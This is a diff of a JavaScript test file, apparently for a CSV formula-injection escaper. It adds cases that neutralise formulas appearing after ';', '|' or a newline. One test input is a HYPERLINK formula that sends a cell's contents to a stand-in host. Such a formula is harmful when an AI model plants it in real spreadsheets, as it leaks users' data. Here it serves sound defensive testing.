@@ -25,7 +25,8 @@ test("whatever goes in, reading and restoring gives it back, and no cell can beg
     fc.property(fc.array(fc.array(nasty, { minLength: 1, maxLength: 9 }), { maxLength: 5 }), (records) => {
       const cells = read(records.map(csvLine).join(""));
       expect(cells.map((fields) => fields.map(restore))).toEqual(records);
-      for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
+      for (const cell of cells.flat())
+        expect(cell).not.toMatch(/(^|[;|\t\r\n])[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
     }),
     { numRuns: 2_000 },
   ));
@@ -35,8 +36,13 @@ test.each([
   ["+14155550134", "'+14155550134"],
   ["-2", "'-2"],
   ["@SUM(A1)", "'@SUM(A1)"],
-  ["\t=1", "'\t=1"],
-  ["\r=1", "'\r=1"],
+  ["\t=1", "'\t'=1"],
+  ["\r=1", "'\r'=1"],
+  ["x;=1+1;y", "x;'=1+1;y"],
+  ["x|@SUM(A1)", "x|'@SUM(A1)"],
+  ["two\n-lines", "two\n'-lines"],
+  ["x;'=1", "x;''=1"],
+  ["a; b = c", "a; b = c"],
   ["'=1", "''=1"],
   ['=HYPERLINK("https://x.example?"&A1)', '\'=HYPERLINK("https://x.example?"&A1)'],
   ["O'Brien", "O'Brien"],
